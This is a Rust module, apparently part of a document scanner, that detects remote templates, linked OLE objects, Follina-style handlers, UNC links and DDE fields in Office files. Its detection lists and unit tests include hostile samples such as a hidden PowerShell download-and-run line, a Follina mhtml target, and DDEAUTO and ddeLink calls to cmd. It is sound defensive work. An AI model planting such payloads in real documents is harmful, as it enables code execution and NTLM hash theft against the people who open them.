//! What the parts of an OOXML package (docx, xlsx, pptx) reach outside the
//! file: relationships with `TargetMode="External"` (a remote template, a
//! linked OLE object, frames and sub-documents), targets that name a URL
//! handler which starts programs (`ms-msdt:`, `search-ms:`...), and DDE:
//! Word's `DDE`/`DDEAUTO` fields and Excel's `ddeLink`. Pure: it reads one
//! part's bytes and says what it asks for; `unpack::ooxml` turns that into
//! findings.

use super::tags::{self, Tag, Tags};

/// Longest instruction kept of one field, and the most fields open at once.
const MAX_INSTRUCTION: usize = 4096;
const MAX_NESTED_FIELDS: usize = 64;
/// Most references reported from one part.
const MAX_REFERENCES: usize = 64;

/// Something a part asks Office to fetch or run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Reference {
    /// An `attachedTemplate` fetched from another machine (http, https,
    /// ftp, a UNC share): remote template injection.
    RemoteTemplate {
        /// The template's URL.
        target: String,
    },
    /// A linked OLE object (`oleObject` with an external target): Office
    /// fetches and activates it (CVE-2017-0199, Follina's `mhtml:...!`).
    ExternalObject {
        /// The object's URL.
        target: String,
    },
    /// Another external relationship that Office follows on its own: a
    /// frame, sub-document or chunk on another machine, or anything on a
    /// UNC share (its fetch sends the user's NTLM hash); or any target with
    /// a URL handler that starts programs (`handler` names it).
    ExternalLink {
        /// The relationship's type (the last part of its `Type` URI).
        relationship: String,
        /// Its target.
        target: String,
        /// The scheme of a handler that starts programs, if it is one.
        handler: Option<String>,
    },
    /// A DDE field or link: the document asks Office to start a program
    /// and exchange data with it.
    Dde {
        /// `DDEAUTO`, `DDE` or `ddeLink`.
        form: String,
        /// The program and its arguments, as the document gives them.
        command: String,
        /// True when the program is a command interpreter or script host,
        /// or is built by nested fields so that it cannot be read here.
        interpreter: bool,
    },
}

/// URL schemes whose handlers start programs, search or open remote
/// documents without a download prompt (Follina's `ms-msdt`, `search-ms`,
/// the Office URI schemes, script URLs and compiled help).
pub(crate) const HANDLERS: &[&str] = &[
    "ms-msdt",
    "search-ms",
    "search",
    "ms-officecmd",
    "ms-cxh",
    "ms-cxh-full",
    "mhtml",
    "ms-its",
    "its",
    "mk",
    "ms-appinstaller",
    "vbscript",
    "javascript",
    "jscript",
    "ms-word",
    "ms-excel",
    "ms-powerpoint",
    "ms-access",
    "ms-visio",
    "ms-project",
    "ms-publisher",
    "ms-infopath",
    "ms-spd",
];

/// Programs that run commands or scripts.
const INTERPRETERS: &[&str] = &[
    "cmd",
    "command",
    "powershell",
    "pwsh",
    "mshta",
    "wscript",
    "cscript",
    "rundll32",
    "regsvr32",
    "certutil",
    "bitsadmin",
    "msiexec",
    "conhost",
    "wmic",
    "msbuild",
    "installutil",
    "schtasks",
    "forfiles",
    "bash",
    "wsl",
    "hh",
];

/// What the part `name` of an OOXML package asks for. Relationship parts
/// (`*.rels`) are read for external targets, Excel's parts (`xl/*.xml`)
/// for DDE links, and every other XML part for fields: a part's name is
/// the package's to choose (Word reaches its main part and headers through
/// the relationships, wherever they are), so a field is read wherever a
/// part holds one (`instr`, written or in UTF-16). Other parts are not
/// read.
pub(crate) fn inspect_part(name: &str, data: &[u8]) -> Vec<Reference> {
    let ends = |suffix: &str| {
        name.len() >= suffix.len()
            && name.as_bytes()[name.len() - suffix.len()..].eq_ignore_ascii_case(suffix.as_bytes())
    };
    let (rels, xml) = (ends(".rels"), ends(".xml"));
    if !rels && !xml {
        return Vec::new();
    }
    let lower = name.to_ascii_lowercase();
    let lower = lower.trim_start_matches(['/', '\\']);
    let text = tags::as_utf8(data);
    let mut out = if rels {
        relationships(&text)
    } else if lower.starts_with("xl/") {
        dde_links(&text)
    } else if memchr::memmem::find(&text, b"instr").is_some() {
        fields(&text)
    } else {
        Vec::new()
    };
    out.truncate(MAX_REFERENCES);
    out
}

/// The relationships of a `.rels` part that reach outside the package.
pub(crate) fn relationships(xml: &[u8]) -> Vec<Reference> {
    let mut out = Vec::new();
    for tag in Tags::new(xml) {
        let Tag::Start { name, attrs, .. } = tag else {
            continue;
        };
        if !tags::is(name, "Relationship") {
            continue;
        }
        let Some(target) = tags::attr(attrs, "Target") else {
            continue;
        };
        let target = target.trim().to_owned();
        let external = tags::attr(attrs, "TargetMode")
            .is_some_and(|m| m.trim().eq_ignore_ascii_case("external"));
        let ty = tags::attr(attrs, "Type").unwrap_or_default();
        let kind = ty
            .rsplit(['/', '\\'])
            .next()
            .unwrap_or("")
            .trim()
            .to_owned();
        if let Some(r) = classify(&kind, target, external) {
            out.push(r);
            if out.len() >= MAX_REFERENCES {
                break;
            }
        }
    }
    out
}

/// What one relationship reaches, if anything worth a finding.
fn classify(kind: &str, target: String, external: bool) -> Option<Reference> {
    let lower_kind = kind.to_ascii_lowercase();
    let handler = handler_scheme(&target);
    if lower_kind == "oleobject" && external {
        return Some(Reference::ExternalObject { target });
    }
    if handler.is_some() {
        return Some(Reference::ExternalLink {
            relationship: kind.to_owned(),
            target,
            handler,
        });
    }
    if !external {
        return None;
    }
    let remote = is_remote(&target);
    match lower_kind.as_str() {
        "attachedtemplate" if remote => Some(Reference::RemoteTemplate { target }),
        // A link to a program (PowerPoint's `ppaction://program` on a
        // mouse-over, or a click) runs it with its arguments.
        "hyperlink" if runs_program(&target) => Some(Reference::ExternalLink {
            relationship: kind.to_owned(),
            target,
            handler: Some("program".into()),
        }),
        // A click takes the user there, and Office asks first.
        "hyperlink" => None,
        "frame" | "subdocument" | "afchunk" | "externallinkpath" | "package" if remote => {
            Some(Reference::ExternalLink {
                relationship: kind.to_owned(),
                target,
                handler: None,
            })
        }
        // A linked picture or media over the web is a web bug at most;
        // over SMB it sends the user's NTLM hash on opening.
        _ if is_unc(&target) => Some(Reference::ExternalLink {
            relationship: kind.to_owned(),
            target,
            handler: None,
        }),
        _ => None,
    }
}

/// True when a link's target is a program on this machine rather than a
/// page or a document: no scheme (or `file:`), and a first word that is a
/// command interpreter or a file that Windows runs (`powershell -w hidden
/// ...`, `C:\Windows\System32\cmd.exe`, `file:///C:/x/a.hta`); percent
/// escapes read as the link is followed.
fn runs_program(target: &str) -> bool {
    let decoded = super::datauri::percent_decode(target.trim().as_bytes());
    let decoded = String::from_utf8_lossy(&decoded);
    let t = decoded.trim();
    // A quoted program path may hold spaces.
    let first = match t.strip_prefix(['"', '\'']) {
        Some(q) => q.split(['"', '\'']).next().unwrap_or(""),
        None => t.split(char::is_whitespace).next().unwrap_or(""),
    };
    // `scheme` reads past leading white space: so must the slice after it.
    let first = first.trim_start();
    let first = match scheme(first).as_deref() {
        None => first,
        Some("file") => first.get(5..).unwrap_or("").trim_start_matches('/'),
        Some(_) => return false,
    };
    let lower = first.to_ascii_lowercase();
    is_interpreter(first)
        || [
            ".exe", ".com", ".bat", ".cmd", ".ps1", ".vbs", ".vbe", ".js", ".jse", ".wsf", ".hta",
            ".scr", ".pif", ".cpl", ".msi", ".lnk",
        ]
        .iter()
        .any(|e| lower.ends_with(e))
}

/// The scheme of `target`, lowercase, when it has one (not a drive letter).
fn scheme(target: &str) -> Option<String> {
    let t = target.trim_start();
    let colon = t.find(':')?;
    let s = &t[..colon];
    let valid = s.len() > 1
        && s.starts_with(|c: char| c.is_ascii_alphabetic())
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'));
    valid.then(|| s.to_ascii_lowercase())
}

/// The scheme of a handler that starts programs, when `target` names one.
fn handler_scheme(target: &str) -> Option<String> {
    scheme(target).filter(|s| HANDLERS.contains(&s.as_str()))
}

/// True for a target on a network share: `\\host\share`, `//host/share`,
/// `file://host/share`, `file:////host/share`.
fn is_unc(target: &str) -> bool {
    let t = target.trim();
    let (rest, file_url) = match t.get(..5) {
        Some(p) if p.eq_ignore_ascii_case("file:") => (&t[5..], true),
        _ => (t, false),
    };
    let slashes = rest.chars().take_while(|c| *c == '/' || *c == '\\').count();
    let after = rest.trim_start_matches(['/', '\\']);
    // `\\?\UNC\host\share` and `\\.\UNC\host\share` are the share,
    // through the device namespace: Win32 opens it over SMB.
    for device in ["?\\UNC\\", ".\\UNC\\", "?/UNC/", "./UNC/"] {
        if after
            .get(..device.len())
            .is_some_and(|d| d.eq_ignore_ascii_case(device))
        {
            let host = after[device.len()..]
                .split(['/', '\\'])
                .next()
                .unwrap_or("")
                .to_ascii_lowercase();
            return slashes >= 2 && !host.is_empty() && host != "localhost" && host != ".";
        }
    }
    // `\\?\C:\` and `\\.\C:\` are local device paths.
    let after_device = after
        .strip_prefix("?\\")
        .or_else(|| after.strip_prefix(".\\"))
        .unwrap_or(after);
    let drive = after_device.as_bytes().get(1) == Some(&b':');
    let host = after
        .split(['/', '\\'])
        .next()
        .unwrap_or("")
        .to_ascii_lowercase();
    let local_host = host.is_empty() || host == "localhost" || host == "." || host == "?";
    if drive || local_host {
        return false;
    }
    if file_url {
        // `file://host/x` names a host; `file:///x` a local path, unless
        // a UNC path follows (`file:////host`, `file:///\\host`).
        slashes == 2 || slashes >= 4
    } else {
        slashes >= 2
    }
}

/// True for a target fetched from another machine.
pub(crate) fn is_remote(target: &str) -> bool {
    matches!(
        scheme(target).as_deref(),
        Some("http" | "https" | "ftp" | "ftps" | "webdav" | "dav" | "smb")
    ) || is_unc(target)
}

/// Word's fields whose instruction is `DDE` or `DDEAUTO`: both
/// `<w:fldSimple w:instr>` and complex fields, whose instruction is split
/// over the runs between `fldChar begin` and `separate` (or `end`) and is
/// joined here, a nested field's text kept apart from its parent's.
pub(crate) fn fields(xml: &[u8]) -> Vec<Reference> {
    let mut out = Vec::new();
    // The instruction of each open field, and whether it is still read.
    let mut open: Vec<(String, bool)> = Vec::new();
    let mut in_instr = false;
    for tag in Tags::new(xml) {
        match tag {
            Tag::Start { name, attrs, empty } => {
                if tags::is(name, "fldSimple") {
                    if let Some(i) = tags::attr(attrs, "instr") {
                        dde_field(&i, &mut out);
                    }
                } else if tags::is(name, "fldChar") {
                    match tags::attr(attrs, "fldCharType")
                        .unwrap_or_default()
                        .to_ascii_lowercase()
                        .as_str()
                    {
                        "begin" => {
                            if open.len() >= MAX_NESTED_FIELDS {
                                let (i, _) = open.remove(0);
                                dde_field(&i, &mut out);
                            }
                            open.push((String::new(), true));
                        }
                        "separate" => {
                            if let Some(f) = open.last_mut() {
                                f.1 = false;
                            }
                        }
                        "end" => {
                            if let Some((i, _)) = open.pop() {
                                dde_field(&i, &mut out);
                            }
                        }
                        _ => {}
                    }
                } else if tags::is(name, "instrText") {
                    in_instr = !empty;
                }
            }
            Tag::End(name) => {
                if tags::is(name, "instrText") {
                    in_instr = false;
                }
            }
            Tag::Text(t) => {
                if in_instr
                    && let Some((i, true)) = open.last_mut()
                    && i.len() < MAX_INSTRUCTION
                {
                    i.push_str(&tags::decode(t));
                }
            }
        }
        if out.len() >= MAX_REFERENCES {
            return out;
        }
    }
    // Fields never closed are still fields.
    for (i, _) in open {
        dde_field(&i, &mut out);
    }
    out
}

/// A DDE finding for one field instruction, if it is `DDE` or `DDEAUTO`.
pub(crate) fn dde_field(instruction: &str, out: &mut Vec<Reference>) {
    let t = instruction.trim_start();
    let word_len = t
        .find(|c: char| c.is_whitespace() || c == '"' || c == '\\')
        .unwrap_or(t.len());
    let form = t[..word_len].to_ascii_uppercase();
    if form != "DDE" && form != "DDEAUTO" {
        return;
    }
    let command: String = t[word_len..]
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    // The program is the first argument; one built by nested fields leaves
    // nothing here to read, which hides it on purpose.
    let program = first_argument(&command);
    let interpreter = is_interpreter(&program) || (form == "DDEAUTO" && program.is_empty());
    out.push(Reference::Dde {
        form,
        command,
        interpreter,
    });
}

/// The first argument of a field instruction, unquoted.
fn first_argument(args: &str) -> String {
    let a = args.trim_start();
    match a.strip_prefix('"') {
        Some(q) => q.split('"').next().unwrap_or("").to_owned(),
        None => a.split_whitespace().next().unwrap_or("").to_owned(),
    }
}

/// True when a DDE link to `server` about `topic` starts a command
/// interpreter: the server is one, or, where Excel is the server
/// (`MSEXCEL|'\..\..\Windows\System32\cmd.exe'`), the topic's first word
/// is.
pub(crate) fn dde_starts_interpreter(server: &str, topic: &str) -> bool {
    let first = topic.trim_start_matches('\'').split_whitespace().next();
    is_interpreter(server) || first.is_some_and(is_interpreter)
}

/// True when `program` (a path or a name, any case, with or without
/// `.exe`, doubled backslashes and all) is a command interpreter.
pub(crate) fn is_interpreter(program: &str) -> bool {
    let base = program
        .rsplit(['\\', '/'])
        .find(|s| !s.is_empty())
        .unwrap_or("")
        .to_ascii_lowercase();
    let base = base.trim_matches(|c: char| c == '"' || c == '\'' || c.is_whitespace());
    let stem = base
        .strip_suffix(".exe")
        .or_else(|| base.strip_suffix(".com"))
        .unwrap_or(base);
    INTERPRETERS.contains(&stem)
}

/// Excel's DDE links (`<ddeLink ddeService="cmd" ddeTopic="/c calc">`, in
/// `xl/externalLinks/*.xml`).
pub(crate) fn dde_links(xml: &[u8]) -> Vec<Reference> {
    let mut out = Vec::new();
    for tag in Tags::new(xml) {
        let Tag::Start { name, attrs, .. } = tag else {
            continue;
        };
        if !tags::is(name, "ddeLink") {
            continue;
        }
        let service = tags::attr(attrs, "ddeService").unwrap_or_default();
        let topic = tags::attr(attrs, "ddeTopic").unwrap_or_default();
        out.push(Reference::Dde {
            form: "ddeLink".into(),
            interpreter: is_interpreter(service.trim()),
            command: format!("{}|{}", service.trim(), topic),
        });
        if out.len() >= MAX_REFERENCES {
            break;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rel(ty: &str, target: &str, external: bool) -> Vec<Reference> {
        let mode = if external {
            " TargetMode=\"External\""
        } else {
            ""
        };
        let x = format!(
            "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{ty}\" Target=\"{target}\"{mode}/></Relationships>"
        );
        relationships(x.as_bytes())
    }

    /// A share reached through the device namespace is remote; a drive
    /// there is not.
    #[test]
    fn device_namespace_paths() {
        for t in [
            "\\\\?\\UNC\\203.0.113.7\\share\\t.dotm",
            "\\\\.\\unc\\host\\s\\t.dotm",
            "file:///\\\\?\\UNC\\203.0.113.7\\share\\t.dotm",
        ] {
            assert!(is_remote(t), "{t}");
        }
        for t in [
            "\\\\?\\C:\\t.dotm",
            "\\\\.\\C:\\t.dotm",
            "\\\\?\\UNC\\localhost\\c$\\t.dotm",
        ] {
            assert!(!is_remote(t), "{t}");
        }
    }

    #[test]
    fn remote_and_local_templates() {
        assert_eq!(
            rel("attachedTemplate", "https://evil.example/t.dotm", true),
            vec![Reference::RemoteTemplate {
                target: "https://evil.example/t.dotm".into()
            }]
        );
        assert!(matches!(
            rel("attachedTemplate", "\\\\10.0.0.1\\s\\t.dotm", true)[..],
            [Reference::RemoteTemplate { .. }]
        ));
        assert!(matches!(
            rel("attachedTemplate", "file://host/s/t.dotm", true)[..],
            [Reference::RemoteTemplate { .. }]
        ));
        // What Word writes for a template on the user's own disk.
        for local in [
            "file:///C:\\Users\\me\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm",
            "file:///Users/me/Library/Group%20Containers/Normal.dotm",
            "C:\\t.dotx",
            "file:///\\\\?\\C:\\t.dotx",
        ] {
            assert_eq!(rel("attachedTemplate", local, true), vec![], "{local}");
        }
    }

    #[test]
    fn links_to_programs_run_them() {
        for program in [
            "powershell%20-NoP%20-W%20Hidden%20-c%20iex(iwr%20http://x/a)",
            "cmd.exe /c calc",
            "C:\\Windows\\System32\\mshta.exe http://x/a.hta",
            "file:///C:/Users/Public/a.hta",
            "&quot;C:\\Program Files\\x.exe&quot; /s",
            // White space of several bytes before the scheme.
            "&quot;\u{2000}\u{2000}file:///C:/a.exe&quot;",
        ] {
            assert!(
                matches!(
                    &rel("hyperlink", program, true)[..],
                    [Reference::ExternalLink { handler: Some(h), .. }] if h == "program"
                ),
                "{program}"
            );
        }
        // Pages, downloads and documents are links like any other.
        for link in [
            "https://example.com/setup.exe",
            "mailto:a@example.com",
            "file:///C:/Reports/q3.xlsx",
            "../docs/manual.pdf",
            "#Slide3",
        ] {
            assert_eq!(rel("hyperlink", link, true), vec![], "{link}");
        }
    }

    #[test]
    fn linked_objects_and_handlers() {
        let follina = "mhtml:http://x.example/a.html!x-usc:http://x.example/a.html";
        assert_eq!(
            rel("oleObject", follina, true),
            vec![Reference::ExternalObject {
                target: follina.into()
            }]
        );
        assert!(rel("oleObject", "embeddings/oleObject1.bin", false).is_empty());
        match &rel("hyperlink", "ms-msdt:/id PCWDiagnostic", true)[..] {
            [Reference::ExternalLink { handler, .. }] => {
                assert_eq!(handler.as_deref(), Some("ms-msdt"))
            }
            other => panic!("{other:?}"),
        }
        assert!(rel("hyperlink", "https://example.com/", true).is_empty());
        assert!(rel("image", "https://example.com/a.png", true).is_empty());
        assert!(matches!(
            rel("image", "\\\\attacker\\x\\a.png", true)[..],
            [Reference::ExternalLink { handler: None, .. }]
        ));
        assert!(matches!(
            rel("frame", "http://x.example/f.html", true)[..],
            [Reference::ExternalLink { .. }]
        ));
        // Excel's links to other workbooks on the same disk are ordinary.
        assert!(rel("externalLinkPath", "file:///C:\\b\\book.xlsx", true).is_empty());
    }

    #[test]
    fn attributes_in_any_order_quote_and_case() {
        let x = b"<Relationships><rel:relationship targetmode='external' Target='http://a.example/t.dotm' type='x/attachedTemplate' Id='r'/></Relationships>";
        assert!(matches!(
            relationships(x)[..],
            [Reference::RemoteTemplate { .. }]
        ));
    }

    #[test]
    fn dde_split_over_runs() {
        let x = br#"<w:document><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> dd</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\Windows\\System32\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>"#;
        match &fields(x)[..] {
            [
                Reference::Dde {
                    form,
                    command,
                    interpreter,
                },
            ] => {
                assert_eq!(form, "DDEAUTO");
                assert!(command.contains("cmd.exe"), "{command}");
                assert!(*interpreter);
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn ordinary_fields_are_not_dde() {
        let x = br#"<w:p><w:fldSimple w:instr=" PAGE \* MERGEFORMAT "/><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> TOC \o "1-3" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> HYPERLINK "https://example.com" </w:instrText></w:r></w:p>"#;
        assert!(fields(x).is_empty());
        let simple = br#"<w:fldSimple w:instr='DDE Excel "C:\\a.xlsx" "Sheet1!R1C1"'/>"#;
        assert!(matches!(
            fields(simple)[..],
            [Reference::Dde {
                interpreter: false,
                ..
            }]
        ));
    }

    #[test]
    fn excel_dde_links() {
        let x = br#"<externalLink xmlns="x"><ddeLink xmlns:r="y" ddeService="cmd" ddeTopic="/c calc"><ddeItems/></ddeLink></externalLink>"#;
        assert_eq!(
            dde_links(x),
            vec![Reference::Dde {
                form: "ddeLink".into(),
                command: "cmd|/c calc".into(),
                interpreter: true
            }]
        );
    }
}
